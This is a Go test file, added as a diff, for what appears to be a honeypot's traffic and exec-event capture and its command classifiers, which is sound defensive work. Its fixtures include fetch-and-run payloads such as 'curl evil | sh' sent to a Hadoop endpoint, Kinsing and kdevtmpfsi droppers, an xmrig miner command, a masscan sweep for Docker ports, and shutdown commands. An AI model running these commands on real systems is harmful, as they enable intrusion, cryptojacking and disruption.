@@ -1,0 +1,125 @@
+package beats
+
+import (
+	"io"
+	"net/http"
+	"net/http/httptest"
+	"net/netip"
+	"strings"
+	"testing"
+	"time"
+
+	"mavscan/internal/eslite"
+	"mavscan/internal/mav"
+	"mavscan/internal/simtime"
+)
+
+var (
+	potIP = netip.MustParseAddr("10.30.0.10")
+	atkIP = netip.MustParseAddr("203.0.113.5")
+	now   = time.Date(2021, 6, 9, 12, 0, 0, 0, time.UTC)
+)
+
+func TestPacketbeatCapturesPostBody(t *testing.T) {
+	store := &eslite.Store{}
+	clock := simtime.NewSim(now)
+	pb := NewPacketbeat(store, clock, potIP, mav.Hadoop)
+
+	var appSaw string
+	wrapped := pb.Wrap(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		body, _ := io.ReadAll(r.Body)
+		appSaw = string(body)
+	}))
+
+	payload := `{"am-container-spec":{"commands":{"command":"curl evil | sh"}}}`
+	req := httptest.NewRequest("POST", "/ws/v1/cluster/apps", strings.NewReader(payload))
+	req.RemoteAddr = atkIP.String() + ":44444"
+	wrapped.ServeHTTP(httptest.NewRecorder(), req)
+
+	// The application must still receive the body after capture.
+	if appSaw != payload {
+		t.Fatalf("application saw %q", appSaw)
+	}
+	events := store.Search(eslite.Query{Type: "http"})
+	if len(events) != 1 {
+		t.Fatalf("%d http events", len(events))
+	}
+	e := events[0]
+	if e.Field("body") != payload {
+		t.Errorf("captured body %q", e.Field("body"))
+	}
+	if e.Field("src") != atkIP.String() {
+		t.Errorf("captured src %q", e.Field("src"))
+	}
+	if e.Field("method") != "POST" || e.Field("path") != "/ws/v1/cluster/apps" {
+		t.Errorf("captured method/path %q %q", e.Field("method"), e.Field("path"))
+	}
+	if e.Field("app") != "Hadoop" || e.Field("host") != potIP.String() {
+		t.Errorf("captured app/host %q %q", e.Field("app"), e.Field("host"))
+	}
+	if !e.Time.Equal(now) {
+		t.Errorf("event time %v, want simulated %v", e.Time, now)
+	}
+}
+
+func TestAuditbeatShipsExecEvents(t *testing.T) {
+	store := &eslite.Store{}
+	ab := NewAuditbeat(store, potIP)
+	ab.RecordExec(now, atkIP, mav.Docker, "container-create", "sh -c wget evil")
+	events := store.Search(eslite.Query{Type: "exec"})
+	if len(events) != 1 {
+		t.Fatalf("%d exec events", len(events))
+	}
+	e := events[0]
+	if e.Field("command") != "sh -c wget evil" || e.Field("via") != "container-create" {
+		t.Errorf("exec event fields: %v", e.Fields)
+	}
+	if e.Field("src") != atkIP.String() || e.Field("app") != "Docker" {
+		t.Errorf("exec attribution: %v", e.Fields)
+	}
+}
+
+func TestAbusiveClassifier(t *testing.T) {
+	abusive := []string{
+		"./xmrig -o stratum+tcp://pool:4444",
+		"wget http://x/kinsing; ./kinsing",
+		"curl x | sh; ./kdevtmpfsi",
+		"masscan 0.0.0.0/0 -p2375",
+		"run MONERO miner",
+	}
+	for _, cmd := range abusive {
+		if !Abusive(cmd) {
+			t.Errorf("not classified abusive: %q", cmd)
+		}
+	}
+	benign := []string{"id", "uname -a", "cat /etc/passwd", "echo hello"}
+	for _, cmd := range benign {
+		if Abusive(cmd) {
+			t.Errorf("falsely classified abusive: %q", cmd)
+		}
+	}
+}
+
+func TestDisruptiveClassifier(t *testing.T) {
+	if !Disruptive("shutdown -h now") || !Disruptive("poweroff") {
+		t.Error("shutdown commands not classified disruptive")
+	}
+	if Disruptive("ls -la") {
+		t.Error("ls classified disruptive")
+	}
+}
+
+func TestPacketbeatBoundsCapturedBody(t *testing.T) {
+	store := &eslite.Store{}
+	clock := simtime.NewSim(now)
+	pb := NewPacketbeat(store, clock, potIP, mav.WordPress)
+	wrapped := pb.Wrap(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {}))
+	huge := strings.Repeat("A", maxRecordedBody*2)
+	req := httptest.NewRequest("POST", "/", strings.NewReader(huge))
+	req.RemoteAddr = "203.0.113.5:1"
+	wrapped.ServeHTTP(httptest.NewRecorder(), req)
+	events := store.Search(eslite.Query{Type: "http"})
+	if got := len(events[0].Field("body")); got != maxRecordedBody {
+		t.Fatalf("captured %d bytes, want cap %d", got, maxRecordedBody)
+	}
+}
